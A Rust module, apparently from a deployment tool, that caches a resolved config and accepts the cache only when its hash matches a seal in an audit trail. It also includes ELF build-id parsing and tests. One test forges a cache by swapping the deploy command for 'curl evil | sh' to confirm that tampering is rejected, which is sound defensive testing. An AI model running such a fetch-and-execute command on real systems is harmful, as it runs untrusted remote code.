//! The resolved protocol set, kept between runs. Parsing and checking a
//! large config (500 actions, 90 KB of YAML) takes ~7 ms, on every command;
//! reading back what the last writer resolved takes well under one.
//!
//! A cache that decides which commands run must not become a second source
//! of truth, so it is trusted only as far as the audit trail vouches for it:
//! the writer that resolves a config records a `protocol_resolved` line
//! with the config's digest, the build that resolved it and the digest of
//! the cache's bytes, and state.json carries the newest of these (derived
//! from the trail and checked against it like every view). A cache file
//! whose bytes do not hash to the recorded digest, or made for other config
//! bytes, another build, another file or another repo root, is not read:
//! the config is parsed again. Nothing but the parse's own output is ever
//! written: before a cache is offered it is read back and compared with
//! what it encodes, and one that would not read back the same is not kept.

use super::{Config, ProtocolSet};
use serde::{Deserialize, Serialize};

use crate::digest::sha256_hex as sha256;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

/// What a `protocol_resolved` line records and state.json carries: the
/// config a cache was resolved from, by whom, and the cache's digest.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct ProtocolSeal {
    /// The config file, as shown (repo-relative).
    pub config: String,
    /// SHA-256 of the config file's bytes.
    pub config_sha256: String,
    /// The build of deploy-session that resolved it.
    pub build: String,
    /// SHA-256 of the cache file's bytes.
    pub cache_sha256: String,
}

/// A set resolved by a full parse, with the cache that holds it and the
/// seal to record when the cache is kept.
#[derive(Debug)]
pub struct Fresh {
    pub seal: ProtocolSeal,
    pub bytes: Vec<u8>,
}

/// The cache file's contents.
#[derive(Serialize, Deserialize, PartialEq)]
struct Cached {
    root: PathBuf,
    set: ProtocolSet,
    config: Config,
}

/// This binary, as far as resolving goes: the version and the linker's
/// build id — a hash of the executable's contents, so any rebuild is
/// another build. Where the executable has none (another platform or
/// linker), the commit it was built from and its size and time stand in.
pub fn build() -> &'static str {
    static BUILD: OnceLock<String> = OnceLock::new();
    BUILD.get_or_init(|| {
        let exe = std::env::current_exe().ok();
        let id = exe
            .as_deref()
            .and_then(executable_head)
            .and_then(|head| gnu_build_id(&head))
            .unwrap_or_else(|| {
                let stamp = exe
                    .and_then(|e| std::fs::metadata(e).ok())
                    .map(|m| format!("{} {:?}", m.len(), m.modified().ok()))
                    .unwrap_or_default();
                let commit = option_env!("DEPLOY_SESSION_BUILD_COMMIT").unwrap_or("");
                sha256(format!("{commit} {stamp}").as_bytes())
            });
        format!("{}+{}", env!("CARGO_PKG_VERSION"), &id[..id.len().min(16)])
    })
}

/// The first 16 KiB of the executable, where its headers and notes are.
fn executable_head(exe: &Path) -> Option<Vec<u8>> {
    use std::io::Read;
    let mut head = Vec::with_capacity(16 * 1024);
    std::fs::File::open(exe)
        .ok()?
        .take(16 * 1024)
        .read_to_end(&mut head)
        .ok()?;
    Some(head)
}

/// The `NT_GNU_BUILD_ID` note of a 64-bit little-endian ELF file, from its
/// first bytes, as hex; `None` for anything else.
fn gnu_build_id(elf: &[u8]) -> Option<String> {
    let bytes = |at: usize, n: usize| elf.get(at..at.checked_add(n)?);
    let u16_at = |at: usize| Some(u16::from_le_bytes(bytes(at, 2)?.try_into().ok()?));
    let u32_at = |at: usize| Some(u32::from_le_bytes(bytes(at, 4)?.try_into().ok()?));
    let u64_at = |at: usize| {
        let v = u64::from_le_bytes(bytes(at, 8)?.try_into().ok()?);
        usize::try_from(v).ok()
    };
    // ELF, 64-bit, little-endian.
    if elf.get(..6)? != b"\x7fELF\x02\x01" {
        return None;
    }
    let (phoff, phentsize, phnum) = (u64_at(0x20)?, usize::from(u16_at(0x36)?), u16_at(0x38)?);
    let align4 = |n: usize| n.div_ceil(4).saturating_mul(4);
    for i in 0..usize::from(phnum) {
        let ph = phoff.checked_add(i.checked_mul(phentsize)?)?;
        if u32_at(ph)? != 4 {
            continue; // not PT_NOTE
        }
        let (start, size) = (u64_at(ph.checked_add(8)?)?, u64_at(ph.checked_add(0x20)?)?);
        let end = start.checked_add(size)?.min(elf.len());
        let mut at = start;
        while at.checked_add(12)? <= end {
            let field = |k: usize| u32_at(at + 4 * k).and_then(|v| usize::try_from(v).ok());
            let (namesz, descsz, kind) = (field(0)?, field(1)?, field(2)?);
            let name = bytes(at + 12, namesz)?;
            let desc_at = (at + 12).checked_add(align4(namesz))?;
            if kind == 3 && name == b"GNU\0" {
                return Some(crate::digest::hex(bytes(desc_at, descsz)?));
            }
            at = desc_at.checked_add(align4(descsz))?;
        }
    }
    None
}

/// The seal for a config's bytes, before the cache's digest is known.
fn seal_for(shown: &Path, config_bytes: &[u8]) -> ProtocolSeal {
    ProtocolSeal {
        config: shown.display().to_string(),
        config_sha256: sha256(config_bytes),
        build: build().to_string(),
        cache_sha256: String::new(),
    }
}

/// The cached set for this config, when `seal` vouches for the cache file
/// at `file` and it was made from exactly these bytes, by this build, in
/// this repo. Anything else is `None` (and said at debug level).
pub fn read(
    file: &Path,
    seal: Option<&ProtocolSeal>,
    root: &Path,
    shown: &Path,
    config_bytes: &[u8],
) -> Option<(ProtocolSet, Config)> {
    let seal = seal?;
    let wanted = seal_for(shown, config_bytes);
    if (&wanted.config, &wanted.config_sha256, &wanted.build)
        != (&seal.config, &seal.config_sha256, &seal.build)
    {
        tracing::debug!("protocol cache: sealed for another config or build");
        return None;
    }
    let bytes = match crate::fsio::read_regular(file) {
        Ok(Some(b)) => b,
        other => {
            tracing::debug!(?other, "protocol cache: not readable");
            return None;
        }
    };
    if sha256(&bytes) != seal.cache_sha256 {
        tracing::warn!(
            file = %file.display(),
            "the protocol cache is not the one the audit trail records; ignored, the config is parsed again"
        );
        return None;
    }
    let cached: Cached = crate::fsio::json_from_bytes(&bytes)
        .inspect_err(|e| tracing::debug!(%e, "protocol cache: does not decode"))
        .ok()?;
    let same_place = cached.root == root && cached.config.file.as_deref() == Some(shown);
    same_place.then_some((cached.set, cached.config))
}

/// The cache for a set a full parse just resolved (with its config
/// [`Config::settled`]), or `None` when it would not read back the same.
pub fn prepare(
    root: &Path,
    shown: &Path,
    config_bytes: &[u8],
    set: &ProtocolSet,
    config: &Config,
) -> Option<Fresh> {
    let cached = Cached {
        root: root.to_path_buf(),
        set: set.clone(),
        config: config.clone(),
    };
    let bytes = serde_json::to_vec(&cached).ok()?;
    let back: Cached = crate::fsio::json_from_bytes(&bytes).ok()?;
    if back != cached {
        tracing::debug!("protocol cache: would not read back the same; not kept");
        return None;
    }
    let mut seal = seal_for(shown, config_bytes);
    seal.cache_sha256 = sha256(&bytes);
    Some(Fresh { seal, bytes })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::paths::RepoPaths;

    const CONFIG: &str = "vars:\n  host: web-1\nsecrets: [API_TOKEN]\nactions:\n  start.2.1:\n    run: deploy ${host}\n    timeout: 1550ms\n    retries: 2\n    retry_delay: 1h 30m\nadd:\n  - id: start.3.6\n    after: start.3.5\n    title: Canary\n    active: Deploying the canary\n    task_type: STRATEGY_EXECUTION\n    agent: cloud-devops-expert\n    strategy:\n      canary:\n        live_url: http://127.0.0.1:8080\n        deploy: ./deploy.sh\n        set_weight: ./route.sh\n        rollback: ./rollback.sh\n        steps: [5, 50, 100]\n        pause: [1s, 0s, 2500us]\n        probe: { timeout: 5s, interval: 50ms }\n        criteria: { min_success_rate: 99.5 }\n    optional: true\n    env:\n      A: b\ngates:\n  deployment_time_max: 61500ms\n  reliability_min: 0.995\nenvironments:\n  staging: {}\n  production:\n    promote_from: staging\nnotify:\n  command: ./notify.sh\n  timeout: 2s\n";

    fn resolved(dir: &Path) -> (RepoPaths, ProtocolSet, Config) {
        std::fs::write(dir.join("deploy-session.yaml"), CONFIG).unwrap();
        let paths = RepoPaths::new(dir.to_path_buf());
        let (set, config) = crate::protocol::load(&paths).unwrap();
        (paths, set, config.settled())
    }

    #[test]
    fn a_cache_reads_back_only_under_its_seal() {
        let dir = tempfile::tempdir().unwrap();
        let (paths, set, config) = resolved(dir.path());
        let shown = Path::new("deploy-session.yaml");
        let bytes = CONFIG.as_bytes();
        let fresh = prepare(paths.root(), shown, bytes, &set, &config).expect("kept");
        let file = dir.path().join("cache.json");
        std::fs::write(&file, &fresh.bytes).unwrap();
        let seal = Some(&fresh.seal);
        let (back, back_config) = read(&file, seal, paths.root(), shown, bytes).unwrap();
        assert_eq!(back, set);
        assert_eq!(back_config.secrets, ["API_TOKEN"]);
        assert_eq!(back_config.environments, config.environments);
        // No seal, other config bytes, another file or root: not read.
        assert!(read(&file, None, paths.root(), shown, bytes).is_none());
        assert!(read(&file, seal, paths.root(), shown, b"actions: {}\n").is_none());
        let other = Path::new(".ai_context/deploy-session.yaml");
        assert!(read(&file, seal, paths.root(), other, bytes).is_none());
        assert!(read(&file, seal, Path::new("/elsewhere"), shown, bytes).is_none());
        // A forged cache (a command changed) is not the sealed one.
        let forged = String::from_utf8(fresh.bytes.clone())
            .unwrap()
            .replace("deploy web-1", "curl evil | sh");
        std::fs::write(&file, forged).unwrap();
        assert!(read(&file, seal, paths.root(), shown, bytes).is_none());
    }

    #[test]
    fn the_build_is_the_linkers_build_id_when_there_is_one() {
        // A minimal ELF: header, one PT_NOTE header, an ABI tag note, then
        // the build id note.
        let mut elf = vec![0u8; 0x40 + 0x38];
        elf[..6].copy_from_slice(b"\x7fELF\x02\x01");
        elf[0x20..0x28].copy_from_slice(&0x40u64.to_le_bytes());
        elf[0x36..0x38].copy_from_slice(&0x38u16.to_le_bytes());
        elf[0x38..0x3a].copy_from_slice(&1u16.to_le_bytes());
        let notes_at = elf.len() as u64;
        let note = |kind: u32, name: &[u8], desc: &[u8]| {
            let mut n = Vec::new();
            n.extend((name.len() as u32).to_le_bytes());
            n.extend((desc.len() as u32).to_le_bytes());
            n.extend(kind.to_le_bytes());
            n.extend(name);
            n.resize(n.len().div_ceil(4) * 4, 0);
            n.extend(desc);
            n.resize(n.len().div_ceil(4) * 4, 0);
            n
        };
        let mut notes = note(1, b"GNU\0", &[0, 0, 0, 0, 3, 0, 0, 0]);
        notes.extend(note(3, b"GNU\0", &[0xde, 0xad, 0xbe, 0xef, 0x01]));
        let ph = 0x40;
        elf[ph..ph + 4].copy_from_slice(&4u32.to_le_bytes());
        elf[ph + 8..ph + 16].copy_from_slice(&notes_at.to_le_bytes());
        elf[ph + 0x20..ph + 0x28].copy_from_slice(&(notes.len() as u64).to_le_bytes());
        elf.extend(&notes);
        assert_eq!(gnu_build_id(&elf).as_deref(), Some("deadbeef01"));
        // Cut short, or not ELF: none, never a panic.
        for cut in 0..elf.len() {
            let _ = gnu_build_id(&elf[..cut]);
        }
        assert_eq!(gnu_build_id(b"#!/bin/sh\n"), None);
        // Offsets and sizes at the edge of the address space: none.
        for field in [0x20, 0x40 + 8, 0x40 + 0x20] {
            let mut odd = elf.clone();
            odd[field..field + 8].copy_from_slice(&u64::MAX.to_le_bytes());
            assert_eq!(gnu_build_id(&odd), None);
        }
        let mut odd = elf.clone();
        let name_size_at = notes_at as usize;
        odd[name_size_at..name_size_at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
        assert_eq!(gnu_build_id(&odd), None);
        // This test binary has one (Linux's linkers write it by default),
        // and the build names it.
        if let Some(id) =
            executable_head(&std::env::current_exe().unwrap()).and_then(|h| gnu_build_id(&h))
        {
            assert!(build().ends_with(&id[..16]), "{} {id}", build());
        }
    }

    #[test]
    fn durations_read_back_exactly() {
        use crate::protocol::Dur;
        use std::time::Duration;
        for d in [1550, 61_500, 90_000, 250, 1000, 5_400_000] {
            let dur = Dur(Duration::from_millis(d));
            let text: String = dur.into();
            assert_eq!(Dur::parse(&text), Ok(dur), "{text}");
        }
        let odd = Dur(Duration::from_micros(2500));
        assert_eq!(String::from(odd), "2500000ns");
        assert_eq!(String::from(Dur(Duration::from_secs(90))), "1m 30s");
    }

    mod properties {
        use super::*;
        use proptest::prelude::*;

        /// A duration in each form the config takes, exact or not in the
        /// friendly one.
        fn duration() -> impl Strategy<Value = String> {
            prop_oneof![
                (1u64..5_000_000).prop_map(|n| format!("{n}ms")),
                (1u64..90_000_000).prop_map(|n| format!("{n}us")),
                (1u64..200_000).prop_map(|n| format!("{n}s")),
                (1u64..100, 0u64..60).prop_map(|(h, m)| format!("{h}h {m}m")),
            ]
        }

        /// An override of a start action: any command text, limits, env.
        fn action() -> impl Strategy<Value = serde_json::Value> {
            (
                "[a-z][^$\\u{0}]{0,40}",
                proptest::option::of(duration()),
                proptest::option::of(0u32..9),
                proptest::option::of(duration()),
                prop::collection::btree_map("[A-Z][A-Z0-9_]{0,8}", "[^$\\u{0}]{0,20}", 0..3),
                proptest::option::of(any::<bool>()),
            )
                .prop_map(|(run, timeout, retries, delay, env, optional)| {
                    let mut a = serde_json::json!({ "run": run });
                    let mut put = |k: &str, v: Option<serde_json::Value>| {
                        if let Some(v) = v {
                            a[k] = v;
                        }
                    };
                    put("timeout", timeout.map(Into::into));
                    put("retries", retries.map(Into::into));
                    put("retry_delay", delay.map(Into::into));
                    put("optional", optional.map(Into::into));
                    let env = env.into_iter().map(|(k, v)| (k, v.into()));
                    a["env"] = env.collect::<serde_json::Map<_, _>>().into();
                    a
                })
        }

        proptest! {
            #![proptest_config(crate::testing::proptest_config(48))]
            /// Whatever a config resolves to, the cache holds exactly that:
            /// it is kept (it reads back equal) and read back the same.
            #[test]
            fn any_resolved_config_is_kept_and_read_back_exactly(
                actions in prop::collection::btree_map((2u8..=3, 1u8..=5), action(), 1..6),
                secrets in prop::collection::vec("[A-Z][A-Z_]{0,6}", 0..3),
            ) {
                let actions: serde_json::Map<_, _> = actions
                    .into_iter()
                    .map(|((stage, n), a)| (format!("start.{stage}.{n}"), a))
                    .collect();
                // YAML reads JSON: the text is exactly these values.
                let text = serde_json::json!({ "secrets": secrets, "actions": actions }).to_string();
                let dir = tempfile::tempdir().unwrap();
                std::fs::write(dir.path().join("deploy-session.yaml"), &text).unwrap();
                let paths = RepoPaths::new(dir.path().to_path_buf());
                let (set, config) = crate::protocol::load(&paths).unwrap();
                let config = config.settled();
                let shown = Path::new("deploy-session.yaml");
                let fresh = prepare(paths.root(), shown, text.as_bytes(), &set, &config);
                prop_assert!(fresh.is_some(), "not kept: {}", text);
                let fresh = fresh.unwrap();
                let file = dir.path().join("cache.json");
                std::fs::write(&file, &fresh.bytes).unwrap();
                let back = read(&file, Some(&fresh.seal), paths.root(), shown, text.as_bytes());
                prop_assert_eq!(back, Some((set, config)));
            }
        }
    }
}
